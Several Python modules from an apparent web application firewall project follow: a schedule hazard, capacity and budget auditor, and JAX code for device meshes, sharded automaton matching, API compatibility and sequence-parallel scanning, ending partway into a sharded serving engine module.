                if last_write is not None and last_write is not op:
                    if last_write.is_manual or op.is_manual:
                        obligations.append(("raw", t, last_write, op))
                    else:
                        edge(2 * last_write.seq + 1, 2 * op.seq)
                reads_since.append(op)
            else:
                for prior in reads_since + (
                        [last_write] if last_write is not None else []):
                    if prior is op:
                        continue
                    if prior.is_dma and op.is_dma and \
                            prior.queue == op.queue:
                        continue  # same DMA channel: FIFO-ordered
                    if prior.is_manual or op.is_manual:
                        obligations.append(("war", t, prior, op))
                    else:
                        edge(2 * prior.seq + 1, 2 * op.seq)
                last_write = op
                reads_since = []
    return succ, accesses, obligations


def _reachability(succ: list[list[int]]):
    """done/issue reachability closure. Edges always point at larger
    event ids for these schedules (producers precede their waiters in
    program order), so a single reverse sweep with bitsets suffices;
    fall back to memoized DFS otherwise."""
    n = len(succ)
    if all(v > u for u, vs in enumerate(succ) for v in vs):
        reach = [0] * n
        for u in range(n - 1, -1, -1):
            r = 1 << u
            for v in succ[u]:
                r |= reach[v]
            reach[u] = r
        return lambda a, b: bool((reach[a] >> b) & 1)

    cache: dict[int, int] = {}

    def closure(u: int) -> int:
        if u in cache:
            return cache[u]
        cache[u] = 1 << u  # cycle guard
        r = 1 << u
        for v in succ[u]:
            r |= closure(v)
        cache[u] = r
        return r

    return lambda a, b: bool((closure(a) >> b) & 1)


def _check_hazards(report: AnalysisReport, sched: Schedule) -> None:
    label = sched.label
    for i, op in enumerate(sched.ops):  # mutation-safe re-sequencing
        op.seq = i
    succ, accesses, obligations = _build_hb(sched)

    # pool-slot rotation: consecutive occupants of one physical slot
    for pool in sched.pools.values():
        if pool.bufs <= 0:
            continue
        by_slot: dict[int, list[RecordedTile]] = {}
        for t in pool.tiles:
            by_slot.setdefault(t.index % pool.bufs, []).append(t)
        for slot, tiles in by_slot.items():
            for t_prev, t_next in zip(tiles, tiles[1:]):
                prev_accs = accesses.get(t_prev, ())
                next_writes = [op for op, kind in
                               accesses.get(t_next, ()) if kind == "w"]
                for a_op, _kind in prev_accs:
                    for w_op in next_writes:
                        if not (a_op.is_manual or w_op.is_manual):
                            continue  # framework-ordered rotation
                        if a_op.is_dma and w_op.is_dma and \
                                a_op.queue == w_op.queue:
                            continue  # same DMA channel: FIFO
                        obligations.append(
                            ("rotate", t_prev, a_op, w_op))

    reach = _reachability(succ)
    failures: dict[tuple, list] = {}
    for kind, t, a_op, b_op in obligations:
        if reach(2 * a_op.seq + 1, 2 * b_op.seq):
            continue
        key = (kind, t.pool.name, a_op.line, b_op.line)
        failures.setdefault(key, []).append((t, a_op, b_op))
    for (kind, pool_name, _la, _lb), cases in sorted(
            failures.items(), key=lambda kv: (kv[0][0], kv[0][2])):
        t, a_op, b_op = cases[0]
        slot = t.index % t.pool.bufs if t.pool.bufs else t.index
        n_more = f" ({len(cases)} occurrence(s))"
        if kind == "raw":
            report.add(
                ERROR, "sched-raw",
                f"{label}: {b_op.where()} reads {pool_name}[slot "
                f"{slot}] but the manually scheduled write "
                f"{a_op.where()} is not semaphore-ordered before it"
                f"{n_more}", line=b_op.line)
        else:
            what = ("recycles" if kind == "rotate" else "overwrites")
            report.add(
                ERROR, "sched-war",
                f"{label}: {b_op.where()} {what} {pool_name}[slot "
                f"{slot}] while {a_op.where()} may still be using it "
                f"— no semaphore orders the old access before the new "
                f"write{n_more}", line=b_op.line)


# --- invariant family 3: SBUF/PSUM capacity ---------------------------------

def _pool_footprint(pool: RecordedPool) -> tuple[int, int]:
    """(bytes per partition, PSUM banks) one pool pins: bufs × the
    widest tile it ever allocates."""
    if not pool.tiles:
        return 0, 0
    per_partition = 0
    for t in pool.tiles:
        cols = 1
        for d in t.shape[1:]:
            cols *= d
        per_partition = max(per_partition, cols * _itemsize(t.dtype))
    if pool.space == "PSUM":
        banks = -(-per_partition // _PSUM_BANK_BYTES) * pool.bufs
        return per_partition * pool.bufs, banks
    return per_partition * pool.bufs, 0


def _check_capacity(report: AnalysisReport,
                    sched: Schedule) -> tuple[int, int]:
    label = sched.label
    sbuf_bytes = 0
    psum_banks = 0
    for pool in sorted(sched.pools.values(), key=lambda p: p.name):
        for t in pool.tiles:
            if t.shape and t.shape[0] > _P:
                report.add(
                    ERROR, "sched-partition",
                    f"{label}: {pool.name}#{t.index} spans "
                    f"{t.shape[0]} partitions (> {_P})")
        per_partition, banks = _pool_footprint(pool)
        if pool.space == "PSUM":
            psum_banks += banks
        else:
            sbuf_bytes += per_partition
    if sbuf_bytes > _SBUF_PARTITION_BYTES:
        report.add(
            ERROR, "sched-sbuf",
            f"{label}: pools pin {sbuf_bytes} bytes/partition of SBUF"
            f" (budget {_SBUF_PARTITION_BYTES})")
    if psum_banks > _PSUM_BANKS:
        report.add(
            ERROR, "sched-psum",
            f"{label}: PSUM pools pin {psum_banks} banks "
            f"(budget {_PSUM_BANKS})")
    return sbuf_bytes, psum_banks


# --- invariant family 4: derived budgets ------------------------------------

def _expected_counts(sched: Schedule) -> dict[str, int]:
    """Structural op-count formulas for one envelope point, derived
    from the documented schedules (and from bass_matmuls_per_chunk /
    the screen 2K+2 / 3K costs for TensorE). The recorded stream is
    the source of truth; drift on either side is an ERROR."""
    from ...ops import bass_compose

    p = sched.params
    s, k = p["s"], p["chunk"]
    b, nc = p["blocks"], p["n_chunks"]
    g = max(1, _P // s)
    if sched.kernel == "compose":
        return {
            # K-1 tree compositions + state apply, 2 TensorE ops each
            "tensor": b * nc * bass_compose.bass_matmuls_per_chunk(k),
            # per chunk: K-1 × compose_pair (copy+memset+G scatters+
            # copy) + state apply (copy+memset+G scatters+copy) =
            # K(3+G); +1 for the identity fill
            "vector": b * nc * k * (3 + g) + 1,
            "gather": b * nc * k,
            # per block: state load + n_chunks idx tiles + out store
            "sync_dma": b * (nc + 2),
        }
    if p["strided"]:
        return {
            # per step: mask matmul + BD transpose + state matmul = 3K
            "tensor": b * nc * 3 * k,
            # per step: spread_lanes(1+G) + block_diag_of(2+G) + copy;
            # +1 chunk-end accumulator add; +1 acc memset per block;
            # +1 identity fill
            "vector": 1 + b * (1 + nc * (k * (4 + 2 * g) + 1)),
            "gather": b * nc * 2 * k,  # map row + mask row per step
            "sync_dma": b * (nc + 3),  # state + idx + 2 out stores
        }
    return {
        # per step: BD transpose + state matmul; +1 block-end join
        "tensor": b * (nc * 2 * k + 1),
        # per step: block_diag_of(2+G) + copy + visited max = 4+G;
        # block end: acc/visited memsets + spread(1+G) + join copy;
        # +1 identity fill
        "vector": 1 + b * (4 + g + nc * k * (4 + g)),
        "gather": b * nc * k,
        "sync_dma": 1 + b * (nc + 3),  # +1 resident slot matrix
    }


def _measured_counts(sched: Schedule) -> dict[str, int]:
    counts = {"tensor": 0, "vector": 0, "gather": 0, "sync_dma": 0}
    for op in sched.ops:
        if op.name == "wait_ge":
            continue
        if op.name == "indirect_dma_start":
            counts["gather"] += 1
        elif op.queue == "sync" and op.name == "dma_start":
            counts["sync_dma"] += 1
        elif op.queue == "tensor":
            counts["tensor"] += 1
        elif op.queue == "vector":
            counts["vector"] += 1
    return counts


def _check_budgets(report: AnalysisReport,
                   sched: Schedule) -> dict[str, int]:
    from ...ops import bass_compose, bass_screen

    label = sched.label
    p = sched.params
    measured = _measured_counts(sched)
    expected = _expected_counts(sched)
    names = {"tensor": ("sched-tensor-count", "TensorE"),
             "vector": ("sched-dve-count", "DVE"),
             "gather": ("sched-dma-count", "gather DMA"),
             "sync_dma": ("sched-dma-count", "sync DMA")}
    for key, (code, engine) in names.items():
        if measured[key] != expected[key]:
            report.add(
                ERROR, code,
                f"{label}: recorded {engine} op count {measured[key]}"
                f" != structural formula {expected[key]} — the "
                "schedule and its op-count model drifted apart")

    # per-chunk TensorE cost vs the declared formula and the audit
    # budget (what waf-audit's kernels half also enforces statically)
    chunks = p["blocks"] * p["n_chunks"]
    per_chunk = -(-measured["tensor"] // max(1, chunks))
    if sched.kernel == "compose":
        declared = bass_compose.bass_matmuls_per_chunk(p["chunk"])
    else:
        declared = bass_screen.bass_screen_matmuls_per_chunk(
            p["chunk"], 2 if p["strided"] else 1)
    if per_chunk > declared:
        report.add(
            ERROR, "sched-tensor-count",
            f"{label}: measured {per_chunk} TensorE ops/chunk exceeds"
            f" the declared per-chunk cost {declared}")
    budget = envcfg.get_int("WAF_AUDIT_COMPOSE_BUDGET")
    if budget <= 0:
        budget = 2 * max(1, p["chunk"]) + 4
    if per_chunk > budget:
        report.add(
            ERROR, "sched-budget",
            f"{label}: measured {per_chunk} TensorE ops/chunk exceeds"
            f" WAF_AUDIT_COMPOSE_BUDGET {budget}")
    return measured


# --- entry points -----------------------------------------------------------

def check_schedule(report: AnalysisReport, sched: Schedule) -> None:
    """Run all four invariant families over one recorded schedule."""
    drained = _check_liveness(report, sched)
    if drained:
        _check_hazards(report, sched)
    sbuf_bytes, psum_banks = _check_capacity(report, sched)
    measured = _check_budgets(report, sched)
    report.add(
        INFO, "sched-point",
        f"{sched.label}: {len(sched.ops)} ops recorded "
        f"(tensor {measured['tensor']}, dve {measured['vector']}, "
        f"gather {measured['gather']}, sync-dma "
        f"{measured['sync_dma']}); {sbuf_bytes} B/partition SBUF, "
        f"{psum_banks}/{_PSUM_BANKS} PSUM banks")


def _csv_ints(name: str) -> list[int]:
    raw = envcfg.get_str(name)
    out = []
    for part in raw.split(","):
        part = part.strip()
        if part:
            out.append(int(part))
    return out


def envelope(quick: bool = False) -> list[dict]:
    """The audited (kernel, S, chunk, …) points. Quick mode pins the
    default production point per kernel variant; full mode is the
    WAF_SCHED_STATES × WAF_SCHED_CHUNKS product."""
    from ...ops import bass_screen
    from ...ops.packing import compose_chunk

    blocks = max(1, envcfg.get_int("WAF_SCHED_BLOCKS"))
    steps = max(1, envcfg.get_int("WAF_SCHED_STEPS"))
    slots = max(1, envcfg.get_int("WAF_SCHED_SLOTS"))
    if quick:
        states = [64]
        chunks = [compose_chunk()]
    else:
        states = _csv_ints("WAF_SCHED_STATES") or [64]
        chunks = _csv_ints("WAF_SCHED_CHUNKS") or [compose_chunk()]
    points: list[dict] = []
    seen: set[tuple] = set()

    def add(**spec):
        key = tuple(sorted(spec.items()))
        if key not in seen:
            seen.add(key)
            points.append(spec)

    for s in states:
        for k in chunks:
            add(kernel="compose", s=s, chunk=k, blocks=blocks,
                n_chunks=steps)
            add(kernel="screen", s=s, chunk=k, blocks=blocks,
                n_chunks=steps, strided=False, n_slots=slots)
            add(kernel="screen", s=s,
                chunk=bass_screen.screen_chunk(k, 2), blocks=blocks,
                n_chunks=steps, strided=True, n_slots=slots)
    return points


def run_sched_audit(report: AnalysisReport, *,
                    quick: bool = False) -> None:
    """Record and verify every envelope point into ``report``."""
    points = envelope(quick)
    n_ops = 0
    for spec in points:
        sched = record_schedule(**spec)
        check_schedule(report, sched)
        n_ops += len(sched.ops)
    report.add(
        INFO, "sched-envelope",
        f"waf-sched: verified {len(points)} schedule point(s), "
        f"{n_ops} recorded ops, over tile_compose_scan/"
        "tile_screen_scan (liveness, hazards, capacity, budgets)")
