"""Sharded batched inspection: dp over requests, rp over matcher tables.

One jitted program per (R, M, L) bucket; inside the shard_map block each
device runs the plain single-core gather scan over its (request-shard ×
matcher-shard) lane block with only its local table slice resident — the
matcher axis sharding is the analog of tensor-parallel weight sharding, and
match-bit assembly needs no explicit collective (the out_specs sharding IS
the result layout; consumers all_gather lazily if they need global bits).

Two lane layouts are served:

- the dense [R, M, L] grid (``sharded_match_bits`` /
  ``replicated_match_bits``): every request against every matcher — the
  dry-run / bulk-scan contract;
- the flat lane layout (``sharded_lane_scan``) the production
  CombinedModel dispatches: lane i carries its own matcher row and symbol
  stream. Tables are sharded over 'rp'; each device scans every lane
  against ONLY the matcher rows it owns (out-of-slice lanes ride a
  clamped row and are masked to 0) and one psum assembles the owning
  device's final state per lane. This is how oversized rule groups —
  whose stride tables blow the SBUF budget (waf-lint's blowup predictor)
  — stay device-resident: each chip holds a 1/rp slice.

jax API differences (``jax.shard_map`` vs the experimental module,
``jax.lax.pcast`` presence) are absorbed by ``parallel/compat.py``.
"""

from __future__ import annotations

import jax
import jax.numpy as jnp
from jax.sharding import Mesh, PartitionSpec as P

from ..ops import automata_jax
from .compat import pcast_varying, shard_map


def sharded_match_bits(mesh: Mesh):
    """Returns a jitted fn:
    (tables [M,S,C], classes [M,259], starts [M], accepts [M],
     symbols [R, M, L]) -> bits [R, M] bool
    with M sharded over 'rp' and R over 'dp'."""

    def block(tables, classes, starts, accepts, sym):
        # tables vary over 'rp' only; the scan carry must match the
        # symbols' ('dp','rp') varying set, so cast them up front.
        tables, classes, starts, accepts = pcast_varying(
            (tables, classes, starts, accepts), ("dp",))
        r_l, m_l, length = sym.shape
        lane_matcher = jnp.tile(jnp.arange(m_l, dtype=jnp.int32), r_l)
        flat = sym.reshape(r_l * m_l, length)
        final = automata_jax.gather_scan(
            tables, classes, starts, lane_matcher, flat)
        bits = final == accepts[lane_matcher]
        return bits.reshape(r_l, m_l)

    smapped = shard_map(
        block, mesh=mesh,
        in_specs=(P("rp", None, None), P("rp", None), P("rp"), P("rp"),
                  P("dp", "rp", None)),
        out_specs=P("dp", "rp"))
    return jax.jit(smapped)


def replicated_match_bits(mesh: Mesh):
    """Pure data-parallel variant: tables replicated, requests sharded.
    The production default (tables are KBs; requests are the volume)."""

    def block(tables, classes, starts, accepts, sym):
        # replicated tables are unvarying; symbols vary over ('dp','rp')
        tables, classes, starts, accepts = pcast_varying(
            (tables, classes, starts, accepts), ("dp", "rp"))
        r_l, m, length = sym.shape
        lane_matcher = jnp.tile(jnp.arange(m, dtype=jnp.int32), r_l)
        flat = sym.reshape(r_l * m, length)
        final = automata_jax.gather_scan(
            tables, classes, starts, lane_matcher, flat)
        return (final == accepts[lane_matcher]).reshape(r_l, m)

    smapped = shard_map(
        block, mesh=mesh,
        in_specs=(P(None, None, None), P(None, None), P(None), P(None),
                  P(("dp", "rp"), None, None)),
        out_specs=P(("dp", "rp"), None))
    return jax.jit(smapped)


def sharded_lane_scan(mesh: Mesh, axis: str, m_local: int):
    """Returns a jitted fn for the flat CombinedModel lane layout:
    (tables [M,S,C], classes [M,259], starts [M], lm [N], sym [N,L])
    -> final states [N] i32, with the matcher axis M sharded over
    ``axis`` (m_local = M // axis_size rows per device).

    Each device scans all N lanes against its local table slice; a lane
    whose matcher row lives elsewhere rides a clamped local row with its
    result masked to 0, and the per-lane psum over ``axis`` recovers the
    owning device's final state (states are >= 0 and exactly one device
    owns each row). Long streams chain MAX_UNROLL-step blocks with
    carried state, same as the single-chip path.
    """

    def block(tables, classes, starts, lm, sym):
        tables, classes, starts = pcast_varying(
            (tables, classes, starts), (axis,))
        shard = jax.lax.axis_index(axis)
        local = lm - shard * m_local
        owned = (local >= 0) & (local < m_local)
        local_row = jnp.clip(local, 0, m_local - 1)
        state = jnp.where(owned, starts[local_row], 0)
        W = sym.shape[1]
        B = automata_jax.MAX_UNROLL
        if W <= B:
            state = automata_jax.gather_scan_with_state(
                tables, classes, local_row, sym, state)
        else:
            # W is padded to a block multiple by the caller's transform
            for c in range(-(-W // B)):
                state = automata_jax.gather_scan_with_state(
                    tables, classes, local_row,
                    sym[:, c * B:(c + 1) * B], state)
        return jax.lax.psum(jnp.where(owned, state, 0), axis)

    smapped = shard_map(
        block, mesh=mesh,
        in_specs=(P(axis, None, None), P(axis, None), P(axis),
                  P(None), P(None, None)),
        # the psum makes the output value-replicated, which older vma
        # trackers cannot always prove — same stance as sequence.py
        out_specs=P(), check_vma=False)
    return jax.jit(smapped)


def shard_and_run(mesh: Mesh, tables, classes, starts, accepts, symbols,
                  mode: str = "auto"):
    """Convenience host API: pads R and M to mesh multiples, places arrays,
    runs, and strips padding."""
    import numpy as np

    R, M, L = symbols.shape
    dp = mesh.shape["dp"]
    rp = mesh.shape["rp"]
    if mode == "auto":
        mode = "sharded" if rp > 1 else "replicated"
    r_pad = -R % (dp if mode == "sharded" else dp * rp)
    m_pad = (-M % rp) if mode == "sharded" else 0
    if r_pad or m_pad:
        symbols = np.pad(symbols, ((0, r_pad), (0, m_pad), (0, 0)),
                         constant_values=258)
        if m_pad:
            tables = np.pad(tables, ((0, m_pad), (0, 0), (0, 0)))
            classes = np.pad(classes, ((0, m_pad), (0, 0)))
            starts = np.pad(starts, (0, m_pad))
            accepts = np.pad(accepts, (0, m_pad), constant_values=-1)
    fn = (sharded_match_bits if mode == "sharded"
          else replicated_match_bits)(mesh)
    bits = np.asarray(fn(tables, classes, starts, accepts, symbols))
    return bits[:R, :M]
