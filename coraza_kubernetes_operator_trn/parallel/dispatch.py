"""Sharded batched inspection: dp over requests, rp over matcher tables.

One jitted program per (R, M, L) bucket; inside the shard_map block each
device runs the plain single-core gather scan over its (request-shard ×
matcher-shard) lane block with only its local table slice resident — the
matcher axis sharding is the analog of tensor-parallel weight sharding, and
match-bit assembly needs no explicit collective (the out_specs sharding IS
the result layout; consumers all_gather lazily if they need global bits).
"""

from __future__ import annotations

from functools import partial

import jax
import jax.numpy as jnp
from jax.sharding import Mesh, NamedSharding, PartitionSpec as P

from ..ops import automata_jax


def sharded_match_bits(mesh: Mesh):
    """Returns a jitted fn:
    (tables [M,S,C], classes [M,259], starts [M], accepts [M],
     symbols [R, M, L]) -> bits [R, M] bool
    with M sharded over 'rp' and R over 'dp'."""

    def block(tables, classes, starts, accepts, sym):
        # tables vary over 'rp' only; the scan carry must match the
        # symbols' ('dp','rp') varying set, so cast them up front.
        tables, classes, starts, accepts = jax.lax.pcast(
            (tables, classes, starts, accepts), ("dp",), to="varying")
        r_l, m_l, length = sym.shape
        lane_matcher = jnp.tile(jnp.arange(m_l, dtype=jnp.int32), r_l)
        flat = sym.reshape(r_l * m_l, length)
        final = automata_jax.gather_scan(
            tables, classes, starts, lane_matcher, flat)
        bits = final == accepts[lane_matcher]
        return bits.reshape(r_l, m_l)

    smapped = jax.shard_map(
        block, mesh=mesh,
        in_specs=(P("rp", None, None), P("rp", None), P("rp"), P("rp"),
                  P("dp", "rp", None)),
        out_specs=P("dp", "rp"))
    return jax.jit(smapped)


def replicated_match_bits(mesh: Mesh):
    """Pure data-parallel variant: tables replicated, requests sharded.
    The production default (tables are KBs; requests are the volume)."""

    def block(tables, classes, starts, accepts, sym):
        # replicated tables are unvarying; symbols vary over ('dp','rp')
        tables, classes, starts, accepts = jax.lax.pcast(
            (tables, classes, starts, accepts), ("dp", "rp"), to="varying")
        r_l, m, length = sym.shape
        lane_matcher = jnp.tile(jnp.arange(m, dtype=jnp.int32), r_l)
        flat = sym.reshape(r_l * m, length)
        final = automata_jax.gather_scan(
            tables, classes, starts, lane_matcher, flat)
        return (final == accepts[lane_matcher]).reshape(r_l, m)

    smapped = jax.shard_map(
        block, mesh=mesh,
        in_specs=(P(None, None, None), P(None, None), P(None), P(None),
                  P(("dp", "rp"), None, None)),
        out_specs=P(("dp", "rp"), None))
    return jax.jit(smapped)


def shard_and_run(mesh: Mesh, tables, classes, starts, accepts, symbols,
                  mode: str = "auto"):
    """Convenience host API: pads R and M to mesh multiples, places arrays,
    runs, and strips padding."""
    import numpy as np

    R, M, L = symbols.shape
    dp = mesh.shape["dp"]
    rp = mesh.shape["rp"]
    if mode == "auto":
        mode = "sharded" if rp > 1 else "replicated"
    r_pad = -R % (dp if mode == "sharded" else dp * rp)
    m_pad = (-M % rp) if mode == "sharded" else 0
    if r_pad or m_pad:
        symbols = np.pad(symbols, ((0, r_pad), (0, m_pad), (0, 0)),
                         constant_values=258)
        if m_pad:
            tables = np.pad(tables, ((0, m_pad), (0, 0), (0, 0)))
            classes = np.pad(classes, ((0, m_pad), (0, 0)))
            starts = np.pad(starts, (0, m_pad))
            accepts = np.pad(accepts, (0, m_pad), constant_values=-1)
    fn = (sharded_match_bits if mode == "sharded"
          else replicated_match_bits)(mesh)
    bits = np.asarray(fn(tables, classes, starts, accepts, symbols))
    return bits[:R, :M]
