"""jax version compatibility for the sharding primitives.

The mesh/dispatch/sequence modules target the current jax API
(``jax.shard_map``, ``jax.lax.pcast``, ``check_vma``), but the tier-1
environment pins an older jaxlib (0.4.x) where:

- ``shard_map`` lives at ``jax.experimental.shard_map.shard_map`` and the
  replication-check kwarg is ``check_rep`` (the predecessor of
  ``check_vma``);
- ``jax.lax.pcast`` does not exist. It only matters on jax versions that
  track varying manual axes (vma) per value: there, closed-over constants
  and scan carries entering a shard_map body must be cast to the varying
  set of the sharded operands. Older jax has no vma tracking, so the cast
  is a semantic no-op and the documented fallback is identity — results
  are unaffected, as enforced by the differential tests
  (tests/test_parallel.py, tests/test_sharded_engine.py).

Everything in ``parallel/`` goes through these two shims so the package
imports and runs on both API generations; nothing else in the package may
call ``jax.shard_map``/``pcast`` directly.
"""

from __future__ import annotations

import jax

HAS_PCAST = hasattr(jax.lax, "pcast")
HAS_TOPLEVEL_SHARD_MAP = hasattr(jax, "shard_map")


def shard_map(f, mesh, in_specs, out_specs, check_vma: bool = True):
    """``jax.shard_map`` on new jax; the experimental module (with
    ``check_vma`` mapped onto ``check_rep``) on old jax."""
    if HAS_TOPLEVEL_SHARD_MAP:
        return jax.shard_map(f, mesh=mesh, in_specs=in_specs,
                             out_specs=out_specs, check_vma=check_vma)
    from jax.experimental.shard_map import shard_map as _shard_map

    return _shard_map(f, mesh=mesh, in_specs=in_specs,
                      out_specs=out_specs, check_rep=check_vma)


def pcast_varying(values: tuple, axes: tuple[str, ...]) -> tuple:
    """Cast unvarying values to vary over ``axes`` inside a shard_map
    body; identity on jax without vma tracking (see module docstring)."""
    if HAS_PCAST:
        return jax.lax.pcast(values, axes, to="varying")
    return values
