"""Device mesh construction — the package's ONLY device-topology module.

Every ``jax.devices()`` call in the package lives here (enforced by
tools/lint_invariants.py rule MESH001): the dp×rp mesh shape, device
counts, and CPU-simulated topologies are decided in one place, so the
sharded engine, bench, and tests all agree on what "the mesh" is.

CPU testing: the whole sharded path runs under tier-1 against
``XLA_FLAGS=--xla_force_host_platform_device_count=N`` (tests/conftest.py
sets N=8 before jax import). :func:`force_host_device_count` provides the
same topology for processes that cannot set the flag before import (the
image's sitecustomize pre-imports jax).
"""

from __future__ import annotations

import os

import numpy as np

import jax
from jax.sharding import Mesh


def devices() -> list:
    """The visible device list (the single jax.devices() call site)."""
    return jax.devices()


def device_count() -> int:
    return len(devices())


def platform() -> str:
    return devices()[0].platform


def force_host_device_count(n_devices: int) -> None:
    """Force an n-device virtual CPU platform even after jax was imported.

    ``XLA_FLAGS=--xla_force_host_platform_device_count=N`` is parsed at
    the FIRST backend creation (import alone is fine), so it is set here
    before anything touches ``jax.devices()``. When a backend is already
    live (the image's sitecustomize pre-imports jax and may initialize
    it), the flag is inert: the only remaining control is clearing the
    backend and the ``jax_num_cpu_devices`` config, which older jax lacks
    — then this fails loudly rather than serving a 1-device mesh."""
    flag = f"--xla_force_host_platform_device_count={n_devices}"
    prev = os.environ.get("XLA_FLAGS", "")  # lint-allow: ENV001 -- XLA_FLAGS is jax's knob, not a WAF_* knob; read-modify-write must see the live value
    if "xla_force_host_platform_device_count" not in prev:
        os.environ["XLA_FLAGS"] = f"{prev} {flag}".strip()
    jax.config.update("jax_platforms", "cpu")
    if platform() == "cpu" and device_count() >= n_devices:
        return
    import jax.extend.backend as jeb

    try:
        jeb.clear_backends()
    except Exception:
        pass
    try:
        jax.config.update("jax_num_cpu_devices", n_devices)
    except AttributeError:
        pass
    if platform() != "cpu" or device_count() < n_devices:
        raise RuntimeError(
            f"cannot force {n_devices} CPU devices: a jax backend was "
            f"initialized before the flag could apply; set XLA_FLAGS="
            f"{flag} in the environment before starting python")


def make_mesh(n_devices: int | None = None, rp: int = 1,
              axis_names: tuple[str, str] = ("dp", "rp")) -> Mesh:
    """A dp×rp mesh over the first n devices.

    dp shards the request batch; rp shards the matcher tables. rp=1 gives
    pure data parallelism (the common production shape — automata tables
    are small enough to replicate; rp matters when rulesets grow past SBUF
    budgets, the analog of tensor-parallel weight sharding).
    """
    devs = devices()
    if n_devices is None:
        n_devices = len(devs)
    if n_devices < 1:
        raise ValueError(f"need at least 1 device, asked for {n_devices}")
    if rp < 1:
        raise ValueError(f"rp must be >= 1, got {rp}")
    if n_devices > len(devs):
        raise ValueError(f"want {n_devices} devices, have {len(devs)}")
    if n_devices % rp:
        raise ValueError(f"{n_devices} devices not divisible by rp={rp}")
    grid = np.array(devs[:n_devices]).reshape(n_devices // rp, rp)
    return Mesh(grid, axis_names)


def mesh_rows(mesh: Mesh) -> list[tuple]:
    """The mesh's dp rows as device tuples: row j is dp-shard j's rp lane
    set (the devices that cooperate on one shard's rule-sharded groups)."""
    return [tuple(row) for row in np.asarray(mesh.devices)]
