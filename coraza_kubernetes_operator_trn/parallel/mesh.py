"""Device mesh construction."""

from __future__ import annotations

import numpy as np

import jax
from jax.sharding import Mesh


def make_mesh(n_devices: int | None = None, rp: int = 1,
              axis_names: tuple[str, str] = ("dp", "rp")) -> Mesh:
    """A dp×rp mesh over the first n devices.

    dp shards the request batch; rp shards the matcher tables. rp=1 gives
    pure data parallelism (the common production shape — automata tables
    are small enough to replicate; rp matters when rulesets grow past SBUF
    budgets, the analog of tensor-parallel weight sharding).
    """
    devices = jax.devices()
    if n_devices is None:
        n_devices = len(devices)
    if n_devices > len(devices):
        raise ValueError(f"want {n_devices} devices, have {len(devices)}")
    if n_devices % rp:
        raise ValueError(f"{n_devices} devices not divisible by rp={rp}")
    grid = np.array(devices[:n_devices]).reshape(n_devices // rp, rp)
    return Mesh(grid, axis_names)
