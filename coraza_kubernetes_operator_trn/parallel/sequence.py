"""Distributed enumerative scan — sequence parallelism for long bodies.

A 10MB body (BASELINE.json config #5) is chunked across devices; each
device computes its chunks' [S]-int transition maps in parallel (ops/scan),
then one all_gather of the tiny maps + a log-depth local compose recovers
the exact final automaton state. Communication volume is K*S ints — a few
KB — regardless of body size: the whole body never crosses NeuronLink.

This is the domain's ring-attention / context-parallel analog (SURVEY.md
§5): the sequential carried state is replaced by composable per-chunk
summaries.
"""

from __future__ import annotations

import jax
import jax.numpy as jnp
from jax.sharding import Mesh, PartitionSpec as P

from ..ops.scan import chunk_transition_maps, compose_maps
from .compat import pcast_varying, shard_map


def distributed_chunked_final_state(mesh: Mesh, axis: str, table, classes,
                                    symbols_chunks):
    """symbols_chunks [K, Lc] (K divisible by the axis size) -> final
    transition map [S] of the whole stream, computed with chunks sharded
    over `axis`."""
    n_ax = mesh.shape[axis]
    K = int(jnp.asarray(symbols_chunks).shape[0])
    if K % n_ax:
        raise ValueError(
            f"{K} chunks not divisible by {axis} axis size {n_ax}")

    def block(sym_chunks):
        # closed-over tables and the identity start map are unvarying; the
        # scan carry must match the chunk axis' varying set, so cast all
        # three before the scan
        S = jnp.asarray(table).shape[0]
        K = sym_chunks.shape[0]
        ident = jnp.broadcast_to(jnp.arange(S, dtype=jnp.int32), (K, S))
        t, c, ident = pcast_varying(
            (jnp.asarray(table), jnp.asarray(classes), ident), (axis,))
        local_maps = chunk_transition_maps(t, c, sym_chunks, init=ident)
        all_maps = jax.lax.all_gather(local_maps, axis, tiled=True)  # [K,S]
        return compose_maps(all_maps)

    fn = shard_map(
        block, mesh=mesh,
        in_specs=P(axis, None),
        # the composed map is value-replicated (all_gather then a pure
        # compose), but the vma tracker can't prove it — hence check_vma off
        out_specs=P(), check_vma=False)
    return jax.jit(fn)(jnp.asarray(symbols_chunks))


def distributed_chunked_match(mesh: Mesh, axis: str, table, classes, start,
                              accept, symbols_chunks) -> bool:
    final_map = distributed_chunked_final_state(
        mesh, axis, jnp.asarray(table), jnp.asarray(classes),
        symbols_chunks)
    return bool(final_map[int(start)] == int(accept))
