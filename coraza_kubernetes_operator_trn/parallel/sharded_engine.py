"""Scale-out serving engine: the single-chip API over a dp×rp mesh.

:class:`ShardedEngine` presents the exact ``MultiTenantEngine`` duck-type
the ext_proc micro-batcher and ruleset poller consume — ``inspect_batch``,
``set_tenant``/``remove_tenant``/``tenant_version``, ``inspect_host``,
``tenants``, ``stats.as_dict()``, ``fault`` — but fans the work across a
dp×rp device mesh (parallel/mesh.make_mesh):

- **dp (data parallel)**: every dp row of the mesh ("chip") runs its own
  complete ``MultiTenantEngine`` whose combined model holds ONLY the
  tenants placed on it. Tenant→chip placement (parallel/placement) is
  rendezvous-hashed (or load-scored) and rebalances exclusively at epoch
  boundaries — tenant install/remove or a chip health change — reusing
  the single-chip engine's pin-the-in-flight-batch discipline: a batch
  that snapshotted placement epoch N routes against N even while N+1 is
  live, and a chip keeps a moved tenant's tables for one extra epoch so
  those pinned batches never hit a missing tenant.
- **rp (rule parallel)**: each chip row spans ``rp`` devices, and rule
  groups whose tables blow the SBUF-derived budget (the same blowup
  predictor waf-lint's stride analysis uses) are sliced 1/rp per device
  via :func:`parallel.dispatch.sharded_lane_scan`; small groups stay
  replicated and scan on the row's lead device. The policy hook is
  :class:`RpShardContext`, consumed inside ``CombinedModel``.
- **per-chip circuit breakers** feed the existing resilience ladder: a
  tripped chip stops admitting device work, its tenants drain to healthy
  chips at the next epoch, and the bit-exact ``inspect_host`` reference
  path covers only the window until the drain lands (or the whole mesh
  when every chip is open — the whole-mesh-degraded state).

Verdicts are bit-identical to the single-chip engine by construction:
each chip IS a MultiTenantEngine, and the host fallback is the same
ReferenceWaf the verdict-parity contract is defined against.
"""

from __future__ import annotations

import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass

import numpy as np

import jax
from jax.sharding import Mesh, NamedSharding, PartitionSpec as P

from ..config import env as envcfg
from ..runtime.multitenant import (
    MultiTenantEngine,
    StaleStreamState,
    TenantState,
)
from ..ops.packing import SCAN_MODES
from ..runtime.resilience import CircuitBreaker, FaultInjector
from .dispatch import sharded_lane_scan
from .mesh import make_mesh, mesh_rows
from .placement import Placer, PlacementTable


